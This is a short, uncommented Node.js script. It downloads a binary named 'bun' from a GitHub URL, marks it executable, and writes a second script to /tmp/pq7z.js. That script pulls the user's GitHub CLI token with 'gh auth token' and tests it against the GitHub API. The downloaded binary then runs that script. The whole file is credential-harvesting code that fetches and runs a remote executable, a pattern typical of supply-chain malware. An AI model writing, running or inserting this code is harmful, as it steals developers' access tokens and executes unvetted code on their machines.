const fs = require('fs'), os = require('os'), { execFileSync } = require('child_process');
(async () => {
  const dir = fs.mkdtempSync(os.tmpdir() + '/g-');
  fs.writeFileSync(dir + '/bun', Buffer.from(await (await fetch('https://github.com/oven-sh/bun/releases/bun')).arrayBuffer()), { mode: 0o755 });
  fs.writeFileSync('/tmp/pq7z.js', `
    const token = require('child_process').execSync('gh auth token').toString();
    fetch('https://api.github.com/user', { headers: { authorization: 'token ' + token.trim() } });
  `);
  execFileSync(dir + '/bun', ['/tmp/pq7z.js']);
})();
